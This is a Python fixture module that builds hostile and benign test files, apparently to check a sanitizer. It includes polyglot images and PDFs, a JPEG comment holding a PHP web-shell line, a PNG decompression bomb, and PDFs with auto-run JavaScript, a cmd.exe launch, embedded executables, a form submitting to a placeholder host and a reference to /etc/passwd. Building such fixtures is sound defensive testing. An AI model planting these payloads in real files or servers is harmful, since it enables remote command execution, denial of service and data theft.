"""Hostile and honest files, built here so that every byte of them is known. All people in them are invented."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

MARKER = b"ZHANGSAN-GPS-30.5928N"


def photo(size: tuple[int, int] = (320, 200), mode: str = "RGB") -> Image.Image:
    """A picture with a bright left half, so that turning it can be seen."""
    image = Image.new(mode, size, 40 if mode == "L" else (40, 60, 80))
    image.paste(220 if mode == "L" else (220, 210, 200), (0, 0, size[0] // 2, size[1]))
    return image


def encoded(image: Image.Image, kind: str = "JPEG", **options: object) -> bytes:
    """The picture as bytes of `kind`."""
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jar() -> bytes:
    """A small archive with one class file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(40))
    return out.getvalue()


def gif_and_jar() -> bytes:
    """A GIF that is an archive too."""
    return encoded(photo(), "GIF") + jar()


def png_and_zip() -> bytes:
    """A PNG that is an archive too."""
    return encoded(photo(), "PNG") + jar()


def jpeg_and_php() -> bytes:
    """A JPEG whose comment is a program."""
    return encoded(photo(), comment=b"<?php system($_GET['c']); ?>")


def jpeg_and_pdf() -> bytes:
    """A JPEG with a PDF in its first kilobyte, where lenient readers find it."""
    return encoded(photo(), comment=b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj")


def pdf_and_html() -> bytes:
    """A PDF that a browser which sniffs takes for a page."""
    head, _, rest = pdf_with().partition(b"\n")
    return head + b"\n<html><script>alert(1)</script></html>\n" + rest


def html_before_pdf() -> bytes:
    """A page with a PDF behind it."""
    return b"<html><script>alert(1)</script></html>\n" + pdf_with()


def pixel_bomb(width: int, height: int) -> bytes:
    """A valid PNG of a few kilobytes that unpacks to width x height pixels."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    packer = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    rows = b"".join(packer.compress(row * min(1000, height - top)) for top in range(0, height, 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def with_metadata(kind: str) -> bytes:
    """A picture with EXIF GPS, XMP, a colour profile, a comment and a thumbnail, each carrying the marker."""
    image = photo()
    exif = Image.Exif()
    exif[0x010E] = MARKER.decode()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (30.0, 35.0, 34.0)
    exif.get_ifd(0x8825)[29] = MARKER.decode()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><place>' + MARKER + b"</place></x:xmpmeta>"
    options: dict[str, object] = {"exif": exif.tobytes() + thumbnail(), "icc_profile": MARKER * 20, "xmp": xmp}
    if kind == "JPEG":
        options["comment"] = MARKER
    return encoded(image, kind, **options)


def thumbnail() -> bytes:
    """A small JPEG such as cameras put into the EXIF block, holding the marker."""
    return encoded(photo((16, 16)), comment=MARKER)


Change = Callable[[Pdf], None]


def pdf_with(change: Change | None = None, *, pages: int = 1, **save: object) -> bytes:
    """A plain PDF of `pages` pages, changed by `change` before it is written (streams left readable)."""
    with Pdf.new() as pdf:
        for number in range(pages):
            pdf.add_blank_page(page_size=(595, 842))
            pdf.pages[-1].Contents = Stream(pdf, f"0 0 1 rg {number} 0 50 50 re f".encode())
        if change:
            change(pdf)
        out = io.BytesIO()
        pdf.save(out, compress_streams=False, **{"object_stream_mode": pikepdf.ObjectStreamMode.disable, **save})
        return out.getvalue()


def annotate(pdf: Pdf, **entries: Any) -> None:
    """Adds one annotation to the first page."""
    note = Dictionary(Type=Name.Annot, Rect=Array([10, 10, 90, 90]), **entries)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def _javascript_on_open(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _javascript_named(pdf: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def _javascript_behind_a_link(pdf: Pdf) -> None:
    step = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("x:"), Next=Array([step])))


def _launch(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def _opening_action(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String("https://tracker.invalid/"))


def _embedded(pdf: Pdf) -> Dictionary:
    content = Stream(pdf, b"MZ" + bytes(60))
    content.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=String("tool.exe"), EF=Dictionary(F=content))


def _embedded_file(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("tool.exe"), _embedded(pdf)])))


def _attached_by_note(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.FileAttachment, FS=_embedded(pdf))


def _xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(pdf, b"<xdp:xdp/>"))


def _submit(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://collector.invalid/")))


def _rich_media(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary())


def _postscript(pdf: Pdf) -> None:
    figure = Stream(pdf, b"quit")
    figure.Type, figure.Subtype = Name.XObject, Name.PS
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=figure))


def _external_stream(pdf: Pdf) -> None:
    figure = Stream(pdf, b"")
    figure.F = String("/etc/passwd")
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X=figure))


def _unreachable_script(pdf: Pdf) -> None:
    _javascript_on_open(pdf)
    hidden = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    del pdf.Root.OpenAction
    pdf.pages[0].obj.PieceInfo = Dictionary(Hidden=hidden)


FORBIDDEN_FEATURES: dict[str, tuple[Change, str]] = {
    "script on opening": (_javascript_on_open, "JavaScript"),
    "script in the name tree": (_javascript_named, "JavaScript"),
    "script behind a harmless action": (_javascript_behind_a_link, "JavaScript"),
    "script in private data": (_unreachable_script, "JavaScript"),
    "launch": (_launch, "Launch"),
    "action on opening": (_opening_action, "OpenAction"),
    "embedded file": (_embedded_file, "EmbeddedFile"),
    "file attached to a note": (_attached_by_note, "EmbeddedFile"),
    "XFA form": (_xfa, "XFA"),
    "form that sends": (_submit, "SubmitForm"),
    "rich media": (_rich_media, "RichMedia"),
    "PostScript": (_postscript, "PostScript"),
    "stream in another file": (_external_stream, "external file"),
}
